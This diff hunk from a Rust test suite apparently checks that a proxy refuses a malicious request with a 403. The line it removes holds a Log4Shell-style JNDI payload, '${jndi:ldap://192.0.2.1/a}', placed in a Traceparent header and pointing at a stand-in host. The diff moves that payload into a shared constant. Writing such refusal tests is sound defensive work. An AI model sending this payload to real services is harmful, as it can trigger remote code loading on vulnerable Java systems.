@@ -202,7 +202,7 @@ fn cached(front: &Front<'_>) -> Checked {
         let cache: Vec<&str> = metrics.lines().filter(|line| line.starts_with("portcullis_cache_")).collect();
         format!("{hits} hits in five equal requests\n{}", cache.join("\n"))
     })?;
-    let attack = ask.header("Traceparent", "${jndi:ldap://192.0.2.1/a}");
+    let attack = ask.header("Traceparent", cases::JAVA);
     cases::refused(&attack.send(front.port)?, 403)
 }
 
